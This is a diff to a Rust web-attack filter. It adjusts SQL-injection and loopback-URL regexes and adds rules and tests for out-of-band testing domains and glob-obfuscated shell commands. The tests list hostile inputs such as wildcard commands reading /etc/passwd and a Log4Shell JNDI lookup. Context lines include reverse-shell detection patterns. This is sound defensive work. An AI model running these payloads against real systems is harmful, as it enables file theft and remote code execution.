@@ -12,7 +12,9 @@
 //! set need more states than that makes every scan rebuild them, a thousand times slower, with
 //! every test still passing. Open-ended middles (`'\s*or\b[^'"]*--$`) and Unicode classes
 //! in a repetition do it: `%[a-z_]\w*%` (a batch variable) did, `%[a-z_][a-z0-9_]{0,30}%`
-//! does not. Run `cargo run --release --example filter_cost` after changing a rule.
+//! does not, and a negated one (`[^.\w]`) made a set too big for the cache to start with. The
+//! test `no_rule_set_outgrows_the_lazy_dfa_cache` catches both; run `cargo run --release
+//! --example filter_cost` after changing a rule all the same.
 
 use regex::{Regex, RegexSet};
 
@@ -118,7 +120,7 @@ static RULES: &[Rule] = &[
         // `'+sleep(5)`, `=sleep(5)`), before it (`sleep(5)#`, `sleep(5) and 1`) or as the whole
         // value, never as a method. Prose `sleep (8 hours)` passes: the number must close the
         // call, unless the call is joined to a closed quote (`x'+sleep(20.to_i)+'`).
-        r"\b(?:sleep|pg_sleep)\s*\(\s*(?:\(|@|(?:select|if|case|mod|rand|floor|ceil|abs|length|ascii|ord)\s*[\s(])|(?:\b(?:and|or|xor|not|select|if|then|else|when)\s+|[=(+,|&'\x22{-]\s*)(?:sleep|pg_sleep)\s*\(\s*[\d.]+\s*\)|(?:^|[^.\w])(?:sleep|pg_sleep)\s*\(\s*[\d.]+\s*\)(?:#|\s*(?:$|--|\)|=|\+|\|\||&&|\b(?:and|or|xor)\b))|\bbenchmark\s*\(\s*\d+\s*,|\brandomblob\s*\(\s*\d|\bwaitfor\s+(?:delay|time)\s+'|\bdbms_(?:lock\.sleep|pipe\.receive_message)\s*\(|['\x22]\s*(?:\+|\|\||&&|\.)?\s*(?:sleep|pg_sleep|benchmark)\(",
+        r"\b(?:sleep|pg_sleep)\s*\(\s*(?:\(|@|(?:select|if|case|mod|rand|floor|ceil|abs|length|ascii|ord)\s*[\s(])|(?:\b(?:and|or|xor|not|select|if|then|else|when)\s+|[=(+,|&'\x22{-]\s*)(?:sleep|pg_sleep)\s*\(\s*[\d.]+\s*\)|(?:^|[ \t\r\n(=,;'\x22+|&{}-])(?:sleep|pg_sleep)\s*\(\s*[\d.]+\s*\)(?:#|\s*(?:$|--|\)|=|\+|\|\||&&|\b(?:and|or|xor)\b))|\bbenchmark\s*\(\s*\d+\s*,|\brandomblob\s*\(\s*\d|\bwaitfor\s+(?:delay|time)\s+'|\bdbms_(?:lock\.sleep|pipe\.receive_message)\s*\(|['\x22]\s*(?:\+|\|\||&&|\.)?\s*(?:sleep|pg_sleep|benchmark)\(",
     ),
     rule(
         "sqli-file-or-command",
@@ -364,7 +366,7 @@ static RULES: &[Rule] = &[
         Rfi,
         5,
         Plain,
-        r"^\s*(?:https?|ftp)://(?:[^/@]*@)?(?:127(?:\.\d+){1,3}|localhost|0|0\.0\.0\.0|0x7f[0-9a-f]*|2130706433|0177[0-7.]*|\[(?:0*:)*:?0*1\]|\[(?:0*:)*:?ffff:(?:127\.[0-9.]+|7f[0-9a-f]{2}:[0-9a-f]{1,4})\])(?:[:/?#]|$)",
+        r"^\s*(?:https?|ftp)://(?:[^/@]*@)?(?:127(?:\.\d+){1,3}|localhost|0|0\.0\.0\.0|0x7f[0-9a-f]*|2130706433|0177[0-7.]*|\[(?:0*:)*:?0*1?\]|\[(?:0*:)*:?ffff:(?:127\.[0-9.]+|7f[0-9a-f]{2}:[0-9a-f]{1,4})\])(?:[:/?#]|$)",
     ),
     rule(
         "rfi-ip-url",
@@ -389,6 +391,16 @@ static RULES: &[Rule] = &[
         3,
         Plain,
         r"^\s*(?:https?|ftps?)://[^?#\s]+(?:\?+|#)$",
+    ),
+    // A host of an out-of-band testing service (Burp Collaborator, interactsh, dnslog): a
+    // scanner's probe for blind SSRF, XXE, command or Log4Shell injection calls home to a
+    // fresh subdomain of one. The bare service name, as prose mentions it, has none.
+    rule(
+        "rfi-oast-domain",
+        Rfi,
+        5,
+        Plain,
+        r"[a-z0-9-]\.(?:burpcollaborator\.net|oastify\.com|oast\.(?:me|pro|fun|live|site|online)|interact\.sh|interactsh\.com|dnslog\.cn|ceye\.io|bxss\.me|xss\.ht)\b",
     ),
     // OS command injection, read through the shell's own quoting rules.
     rule(
@@ -442,6 +454,15 @@ static RULES: &[Rule] = &[
         r"/dev/(?:tcp|udp)/|\bsocat\b.*\bexec:|\bnc(?:at)?\b(?:\s+-\w+)*\s+\S+\s+\d+\s+-e\b|\bnc(?:at)?\s+(?:-\w+\s+)*-e\s*(?:/(?:usr/)?bin/)?(?:ba)?sh\b",
     ),
     rule("rce-ifs", Rce, 5, Plain, r"\$\{?ifs\b"),
+    // A command named through glob wildcards right after a separator or at the value's start
+    // (`;/???/??t /???/p??s??`, `|/b?n/c?t`).
+    rule(
+        "rce-glob-command",
+        Rce,
+        5,
+        Shell,
+        r"(?:^|[;&|`\n]|\$\()[ \t]*/[a-z0-9_.?*\[\]-]*[?*\[][a-z0-9_.?*\[\]-]*/",
+    ),
     // The command syntax of Ruby (`%x(ls -al /)`, `Process.spawn("id")`) and Perl
     // (`qx{id}`), and Perl's code interpolation (`@{[ system 'id' ]}`, `@{[rand 100]}`: code
     // run inside a string, which nothing but Perl writes), for apps that pass input to either.
@@ -1033,6 +1054,91 @@ mod tests {
                 "class.forname(\"org.postgresql.driver\")",
             ],
         );
+    }
+
+    #[test]
+    fn glob_named_commands_and_out_of_band_hosts_are_found() {
+        assert_finds(
+            Forms::of(Form::Shell),
+            "rce-glob-command",
+            &[
+                ";/???/??t /???/p??s??",
+                "|/b?n/c?t /etc/passwd",
+                "/???/??t /etc/passwd",
+            ],
+            &["a;/usr/bin/env", "/* comment */", "see /docs/faq?/x"],
+        );
+        assert_finds(
+            Forms::PLAIN,
+            "rfi-oast-domain",
+            &[
+                "http://abc123.oastify.com/x",
+                "${jndi:ldap://x.oast.me/a}",
+                "nslookup q1w2.burpcollaborator.net",
+            ],
+            &[
+                "what is burpcollaborator.net?",
+                "we use oast.me for testing",
+            ],
+        );
+        assert_finds(Forms::PLAIN, "rfi-loopback-url", &["http://[::]:80/"], &[]);
+    }
+
+    /// The regex crate searches a set with its lazy DFA only when the DFA's first states fit
+    /// in its 2 MiB cache, and gives the DFA up when the cache fills again and again while
+    /// holding few bytes per state; it then searches with a PikeVM, about a thousand times
+    /// slower, every verdict unchanged. A rule with a Unicode class in a repetition or negated
+    /// (`\w*`, `[^.\w]`) did that three times. Each group is built here as the crate builds
+    /// it, and searched over long and varied prose (the prompt corpus); it must fit and never
+    /// give up.
+    #[test]
+    fn no_rule_set_outgrows_the_lazy_dfa_cache() {
+        use regex_automata::{Input, hybrid};
+
+        let corpus = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/corpus/prompts");
+        let mut texts: Vec<String> = Vec::new();
+        for file in ["jailbreaks.jsonl", "ordinary.jsonl"] {
+            let lines = std::fs::read_to_string(format!("{corpus}/{file}")).unwrap();
+            for line in lines.lines() {
+                let value: serde_json::Value = serde_json::from_str(line).unwrap();
+                texts.push(value["text"].as_str().unwrap().to_lowercase());
+            }
+        }
+        let config = hybrid::dfa::Config::new()
+            .cache_capacity(2 * (1 << 20))
+            .skip_cache_capacity_check(false)
+            .minimum_cache_clear_count(Some(3))
+            .minimum_bytes_per_state(Some(10));
+        for group in PatternRules::compile().groups {
+            let patterns: Vec<String> = group
+                .rules
+                .iter()
+                .map(|&i| ascii_word_boundaries(RULES[i].pattern))
+                .collect();
+            // The crate builds a forward and a reverse lazy DFA; when either needs more than
+            // the cache for its first states, it does without both.
+            let built = hybrid::regex::Builder::new()
+                .dfa(config.clone())
+                .build_many(&patterns);
+            if let Err(err) = built {
+                panic!("no lazy DFA for {:?} within its cache: {err}", group.forms);
+            }
+            let dfa = hybrid::dfa::DFA::builder()
+                .configure(config.clone())
+                .build_many(&patterns)
+                .unwrap();
+            let mut cache = dfa.create_cache();
+            for text in &texts {
+                let searched = dfa.try_search_fwd(&mut cache, &Input::new(text));
+                assert!(
+                    searched.is_ok(),
+                    "the lazy DFA of {:?} gave up after {} cache clears on {:?}",
+                    group.forms,
+                    cache.clear_count(),
+                    &text[..text.len().min(60)]
+                );
+            }
+        }
     }
 
     #[test]
